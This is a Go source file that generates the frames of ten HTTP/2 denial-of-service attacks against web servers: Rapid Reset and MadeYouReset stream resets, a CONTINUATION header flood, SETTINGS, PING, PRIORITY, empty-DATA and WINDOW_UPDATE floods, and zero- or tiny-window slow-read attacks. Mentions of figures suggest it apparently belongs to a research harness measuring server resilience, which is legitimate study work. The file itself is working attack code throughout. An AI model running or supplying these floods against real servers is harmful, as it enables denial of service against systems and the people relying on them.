package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"strconv"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The frames of each HTTP/2 attack (h2attack.go), written with golang.org/x/net/http2's Framer
// and hpack.

// The attacks, in the figures' order.
const (
	attackReset        = "reset"
	attackMadeYouReset = "made-you-reset"
	attackContinuation = "continuation"
	attackSettings     = "settings"
	attackPing         = "ping"
	attackPriority     = "priority"
	attackEmptyData    = "empty-data"
	attackWindowUpdate = "window-update"
	attackZeroWindow   = "zero-window"
	attackTinyWindow   = "tiny-window"
)

var attacks = []string{attackReset, attackMadeYouReset, attackContinuation, attackSettings, attackPing, attackPriority, attackEmptyData,
	attackWindowUpdate, attackZeroWindow, attackTinyWindow}

// reads reports whether an attack reads what the server sends while it attacks: the SETTINGS and
// PING floods never do, so the server's answers to them pile up on its side.
func reads(attack string) bool { return attack != attackSettings && attack != attackPing }

// streamAttack reports whether an attack is made of streams rather than a flood of frames: the
// zero-window and tiny-window attacks open streams and read, and their reader is the one that
// writes (the SETTINGS ACKs, the PINGs' answers, the tiny windows' WINDOW_UPDATEs and streams).
func streamAttack(attack string) bool {
	return attack == attackZeroWindow || attack == attackTinyWindow
}

// initialWindow is the SETTINGS_INITIAL_WINDOW_SIZE an attack announces, and whether it
// announces one: 0 for zero-window, 1 for tiny-window, so that the server may send a stream's
// answer one byte at a time.
func initialWindow(attack string) (uint32, bool) {
	switch attack {
	case attackZeroWindow:
		return 0, true
	case attackTinyWindow:
		return 1, true
	}
	return 0, false
}

// Sizes of the floods' frames.
const (
	// continuationFields header fields of continuationValue bytes each go in one CONTINUATION:
	// about 1.5 KiB of HPACK a frame, fields never indexed, so each one is new to the server.
	continuationFields = 32
	continuationValue  = 32
	// emptyDataPerStream 0-length DATA frames go on one stream before it is ended.
	emptyDataPerStream = 1000
	// floodBatch bounds the units written between two flushes, so that a reader's ACK of the
	// server's SETTINGS gets its turn at the socket.
	floodBatch = 256
)

// abuseFrames writes one attack's frames to w: the client preface, then unit after unit of a
// flood, or the streams of zero-window and tiny-window. It keeps the attack's state (stream
// ids, the HPACK encoder, the field block under way) and counts the frames it wrote.
type abuseFrames struct {
	attack    string
	w         io.Writer
	fr        *http2.Framer
	enc       *hpack.Encoder
	hbuf      bytes.Buffer
	scheme    string
	authority string
	path      string
	next      uint32 // the next stream id
	frames    int64
	// started: the continuation flood's HEADERS has gone; field numbers its fields.
	started bool
	field   int
	// cur is the empty-DATA flood's stream and left the DATA frames it still gets.
	cur  uint32
	left int
	ping uint64
}

func newAbuseFrames(attack string, w io.Writer, scheme, authority, path string) *abuseFrames {
	a := &abuseFrames{attack: attack, w: w, fr: http2.NewFramer(w, nil), scheme: scheme, authority: authority,
		path: path, next: 1}
	// MadeYouReset's WINDOW_UPDATEs of 0, which the Framer refuses to write unless told.
	a.fr.AllowIllegalWrites = attack == attackMadeYouReset
	a.enc = hpack.NewEncoder(&a.hbuf)
	return a
}

// preface writes the client connection preface and the client's SETTINGS: ENABLE_PUSH 0, and
// INITIAL_WINDOW_SIZE 0 for zero-window, 1 for tiny-window.
func (a *abuseFrames) preface() error {
	if _, err := io.WriteString(a.w, http2.ClientPreface); err != nil {
		return err
	}
	settings := []http2.Setting{{ID: http2.SettingEnablePush, Val: 0}}
	if v, ok := initialWindow(a.attack); ok {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: v})
	}
	a.frames++
	return a.fr.WriteSettings(settings...)
}

// request encodes a GET's field block.
func (a *abuseFrames) request() []byte {
	a.hbuf.Reset()
	a.enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
	a.enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: a.scheme})
	a.enc.WriteField(hpack.HeaderField{Name: ":authority", Value: a.authority})
	a.enc.WriteField(hpack.HeaderField{Name: ":path", Value: a.path})
	return a.hbuf.Bytes()
}

// unit writes one unit of a flood: a HEADERS and its RST_STREAM, a HEADERS and a WINDOW_UPDATE
// of 0 on its stream, a CONTINUATION (the HEADERS first), a SETTINGS, a PING, a PRIORITY, a
// 0-length DATA (its stream's HEADERS first), or a WINDOW_UPDATE.
func (a *abuseFrames) unit() error {
	switch a.attack {
	case attackReset, attackMadeYouReset:
		id := a.next
		a.next += 2
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.request(),
			EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		a.frames += 2
		if a.attack == attackMadeYouReset {
			// A stream error (RFC 9113 §6.9): the server resets the stream itself.
			return a.fr.WriteWindowUpdate(id, 0)
		}
		return a.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	case attackContinuation:
		if !a.started {
			a.started = true
			a.frames++
			return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.request(),
				EndStream: true, EndHeaders: false})
		}
		a.hbuf.Reset()
		value := strings.Repeat("v", continuationValue)
		for range continuationFields {
			a.field++
			a.enc.WriteField(hpack.HeaderField{Name: "x-flood-" + strconv.Itoa(a.field), Value: value, Sensitive: true})
		}
		a.frames++
		return a.fr.WriteContinuation(1, false, a.hbuf.Bytes())
	case attackSettings:
		a.frames++
		return a.fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	case attackPing:
		a.ping++
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], a.ping)
		a.frames++
		return a.fr.WritePing(false, data)
	case attackPriority:
		id := a.next
		a.next += 2
		dep := uint32(0)
		if id > 1 {
			dep = id - 2
		}
		a.frames++
		return a.fr.WritePriority(id, http2.PriorityParam{StreamDep: dep, Weight: 15})
	case attackEmptyData:
		if a.left == 0 {
			a.cur = a.next
			a.next += 2
			a.left = emptyDataPerStream
			a.frames++
			if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.cur, BlockFragment: a.request(),
				EndStream: false, EndHeaders: true}); err != nil {
				return err
			}
		}
		a.left--
		a.frames++
		return a.fr.WriteData(a.cur, a.left == 0, nil)
	case attackWindowUpdate:
		// Increments of 1 on the connection: legal, each a frame for the server to read and a
		// window to add to, and at any rate a connection takes them, 10 s of them stay far
		// below the 2^31-1 a window may reach, so the server has no overflow to end it for.
		a.frames++
		return a.fr.WriteWindowUpdate(0, 1)
	}
	return fmt.Errorf("%s is not a flood", a.attack)
}

// open writes n GETs, each on a new stream, each ending its side (the zero-window and
// tiny-window streams).
func (a *abuseFrames) open(n int) ([]uint32, error) {
	ids := make([]uint32, 0, n)
	for range n {
		id := a.next
		a.next += 2
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.request(),
			EndStream: true, EndHeaders: true}); err != nil {
			return ids, err
		}
		a.frames++
		ids = append(ids, id)
	}
	return ids, nil
}

// giveBack writes the WINDOW_UPDATEs that return a DATA frame's n flow-controlled bytes: on its
// stream unless the frame ended the stream (a closed stream's window is of no more use), and
// on the connection.
func (a *abuseFrames) giveBack(stream uint32, n uint32, ended bool) error {
	if !ended {
		a.frames++
		if err := a.fr.WriteWindowUpdate(stream, n); err != nil {
			return err
		}
	}
	a.frames++
	return a.fr.WriteWindowUpdate(0, n)
}
